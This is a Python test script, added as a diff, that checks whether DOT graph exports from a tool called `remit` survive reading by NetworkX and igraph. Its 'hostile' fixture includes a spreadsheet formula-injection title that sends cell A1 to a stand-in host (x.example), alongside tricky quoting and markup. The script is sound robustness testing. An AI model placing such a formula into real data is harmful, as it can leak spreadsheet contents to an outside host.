@@ -1,0 +1,159 @@
+"""dot.py PROGRAM ROOT: what `remit export` writes, read by NetworkX's two readers and, by way of
+Graphviz's gv2gml, by igraph: nodes, degrees, weights and labels."""
+
+import collections
+import contextlib
+import html
+import itertools
+import json
+import subprocess
+import sys
+import tempfile
+import warnings
+
+import igraph
+import networkx as nx
+
+warnings.simplefilter("ignore")  # NetworkX of pydot's age, igraph of Graphviz's own attributes
+PROGRAM, ROOT = sys.argv[1:]
+
+HOSTILE = r"""
+remit: 1
+departments:
+  - {id: a, name: 'A "quoted" \', short: A\N}
+  - {id: b, name: <B>bold</B>}
+  - {id: c, name: '007'}
+regions: [{id: r, kind: nation, name: R}, {id: s, name: S}]
+notice: {id: n, title: 'N "1"', issued: 2020-02-03}
+measures:
+  - {number: 1, title: '=HYPERLINK("http://x.example/?"&A1,"go")', departments: [a, b], scope: r}
+  - {number: 2, title: 'R&D; &lt; &amp; ]; {', departments: [b, a, c], scope: [r, s]}
+  - {number: 3, title: '2.5', departments: b, scope: s}
+  - {number: 4, title: '...', departments: c, scope: s}
+"""
+
+
+def remit(*arguments):
+    return subprocess.run([PROGRAM, *arguments], check=True, capture_output=True, text=True).stdout
+
+
+def plain(value):
+    """The text of an attribute: without pydot's quotes, DOT's backslashes and names of quotes."""
+    text = str(value)
+    if text.startswith('"') and text.endswith('"'):
+        text = text[1:-1]
+    return html.unescape(text.replace("\\\\", "\\"))
+
+
+@contextlib.contextmanager
+def file_of(text, ending):
+    with tempfile.NamedTemporaryFile("w", suffix=ending) as file:
+        file.write(text)
+        file.flush()
+        yield file.name
+
+
+def of_networkx(read, dot):
+    with file_of(dot, ".dot") as name:
+        graph = read(name)
+    nodes = {name.strip('"'): graph.nodes[name] for name in graph}
+    links = [(a.strip('"'), b.strip('"'), data) for a, b, data in graph.edges(data=True)]
+    return nodes, links
+
+
+def of_igraph(dot):
+    gml = subprocess.run(["gv2gml"], input=dot, check=True, capture_output=True, text=True).stdout
+    with file_of(gml, ".gml") as name:
+        graph = igraph.Graph.Read_GML(name)
+    nodes = {vertex["name"]: vertex.attributes() for vertex in graph.vs}
+    links = [(graph.vs[e.source]["name"], graph.vs[e.target]["name"], e.attributes())
+             for e in graph.es]
+    return nodes, links
+
+
+def readings(dot):
+    yield "nx_agraph", of_networkx(nx.nx_agraph.read_dot, dot)
+    yield "nx_pydot", of_networkx(nx.nx_pydot.read_dot, dot)
+    yield "igraph", of_igraph(dot)
+
+
+def expect(where, what, actual, wanted):
+    if actual != wanted:
+        sys.exit(f"{where}: {what}: {actual} instead of {wanted}")
+
+
+def check(where, dot, labels, weights, weight):
+    """\\param weights  of each link, by its two ends; its length is the number of links"""
+    degrees = collections.Counter(itertools.chain.from_iterable(weights))
+    for reader, (nodes, links) in readings(dot):
+        at = f"{where}, {reader}"
+        expect(at, "nodes", sorted(nodes), sorted(labels))
+        expect(at, "links", len(links), len(weights))
+        ends = collections.Counter(itertools.chain.from_iterable(link[:2] for link in links))
+        expect(at, "degrees", ends, degrees)
+        for a, b, data in links:
+            key = (a, b) if (a, b) in weights else (b, a)
+            if weights[key] is not None:
+                expect(at, f"{weight} of {key}", float(plain(data[weight])), weights[key])
+        for name, label in labels.items():
+            # gv2gml writes a label that is a number as one.
+            actual = plain(nodes[name]["label"])
+            if reader == "igraph" and label.isdigit():
+                label = str(int(label))
+            expect(at, f"label of {name}", actual, label)
+
+
+def hostile():
+    with file_of(HOSTILE, ".yaml") as name:
+        whole, without_regions, projection = (
+            remit("export", "--quiet", name, "--lang", "en", *options)
+            for options in ([], ["--no-regions"], ["--projection"]))
+    bodies = {"department-a": "A\\N", "department-b": "<B>bold</B>", "department-c": "007"}
+    measures = {"measure-1": '=HYPERLINK("http://x.example/?"&A1,"go")',
+                "measure-2": "R&D; &lt; &amp; ]; {", "measure-3": "2.5", "measure-4": "..."}
+    places = {"region-r": "R", "region-s": "S"}
+    shares = {("measure-1", "department-a"): 0.5, ("measure-1", "department-b"): 0.5,
+              ("measure-2", "department-a"): 0.333333, ("measure-2", "department-b"): 0.333333,
+              ("measure-2", "department-c"): 0.333333, ("measure-3", "department-b"): 1.0,
+              ("measure-4", "department-c"): 1.0}
+    reach = {("measure-1", "region-r"): None, ("measure-2", "region-r"): None,
+             ("measure-2", "region-s"): None, ("measure-3", "region-s"): None,
+             ("measure-4", "region-s"): None}
+    check("hostile", whole, bodies | measures | places, shares | reach, "fractional")
+    check("hostile without regions", without_regions, bodies | measures, shares, "fractional")
+    check("hostile projection", projection, bodies,
+          {("department-a", "department-b"): 2.0, ("department-a", "department-c"): 1.0,
+           ("department-b", "department-c"): 1.0}, "weight")
+
+
+def shipped(language):
+    """The third batch: links and shared measures by the sheet of measures."""
+    data = ROOT + "/data/2020-third-batch.yaml"
+    rows = json.loads(remit("table", data, "--lang", language, "--format", "json"))["rows"]
+    shares, shared, measures, bodies = {}, collections.Counter(), {}, {}
+    for row in rows:
+        departments = row["first_named"] + row["also_named"]
+        bodies |= zip((f"department-{each}" for each in departments),
+                      row["first_named_names"] + row["also_named_names"])
+        for each in departments:
+            key = (f"measure-{row['number']}", f"department-{each}")
+            shares[key] = float(f"{1 / len(departments):.6g}")
+        for pair in itertools.combinations(sorted(departments), 2):
+            shared[tuple(f"department-{each}" for each in pair)] += 1.0
+    dot = remit("export", data, "--lang", language, "--no-regions")
+    for name, node in of_networkx(nx.nx_agraph.read_dot, dot)[0].items():
+        if node["class"] != "measure":
+            continue
+        title = rows[int(node["number"]) - 1]["title"]
+        expect(language, f"title of {name}", plain(node["title"]), title)
+        measures[name] = plain(node["label"])
+        expect(language, f"{name} is labelled by a number", measures[name].isdigit(), False)
+    check(f"third batch, {language}", dot, measures | bodies, shares, "fractional")
+    check(f"third batch, {language}, projection",
+          remit("export", data, "--lang", language, "--projection"), bodies, shared, "weight")
+
+
+hostile()
+for each_language in ("zh-Hans", "en"):
+    shipped(each_language)
+print("NetworkX's two readers and igraph read what is exported")
